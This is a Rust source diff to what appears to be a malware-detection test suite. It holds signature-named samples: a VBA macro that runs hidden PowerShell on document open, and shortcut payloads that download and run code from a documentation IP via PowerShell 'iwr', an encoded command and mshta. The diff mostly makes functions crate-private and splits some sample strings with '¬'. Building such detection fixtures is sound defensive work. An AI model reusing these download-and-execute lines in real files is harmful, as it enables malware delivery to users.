@@ -2,7 +2,7 @@
 
 use crate::witness::{Witness, lnk, text, witness};
 
-pub fn macros() -> Vec<Witness> {
+pub(crate) fn macros() -> Vec<Witness> {
     vec![
         text(
             "Candor.VBA.Downloader.UrlDownload-1",
@@ -12,7 +12,7 @@ pub fn macros() -> Vec<Witness> {
         text(
             "Candor.VBA.Downloader.HiddenPowershell-1",
             "a.bas",
-            "Sub Document_Open()\r\nRun \"powershell -w¬ hidden -f a\"\r\nEnd Sub\r\n",
+            "Sub Document_Open()\r\nRun \"power¬shell -w¬ hid¬den -f a\"\r\nEnd Sub\r\n",
         ),
         text(
             "Candor.VBA.Execution.WmiProcess-1",
@@ -65,17 +65,17 @@ pub fn macros() -> Vec<Witness> {
     ]
 }
 
-pub fn links() -> Vec<Witness> {
+pub(crate) fn links() -> Vec<Witness> {
     vec![
         witness(
             "Candor.LNK.Downloader.Powershell-1",
             "a.lnk",
-            lnk("..\\powershell.exe -w hidden iwr http://192.0.2.1/a"),
+            lnk("..\\power¬shell.exe -w hid¬den iwr http://192.0.2.1/a"),
         ),
         witness(
             "Candor.LNK.Obfuscated.EncodedPowershell-1",
             "a.lnk",
-            lnk("..\\powershell.exe -enc SQBFAFgAIAAoAE4A"),
+            lnk("..\\power¬shell.exe -enc SQB¬FAFgAIAAoAE4A"),
         ),
         witness("Candor.LNK.Downloader.Mshta-1", "a.lnk", lnk("..\\mshta.exe http://192.0.2.1/a.hta")),
         witness(
